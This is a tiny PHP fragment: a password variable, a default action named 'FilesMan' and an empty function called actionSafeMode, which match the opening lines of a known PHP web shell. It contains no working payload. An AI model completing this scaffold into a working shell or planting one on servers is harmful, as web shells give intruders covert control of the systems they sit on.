<?php $auth_pass = "x"; $default_action = "FilesMan"; function actionSafeMode() {}
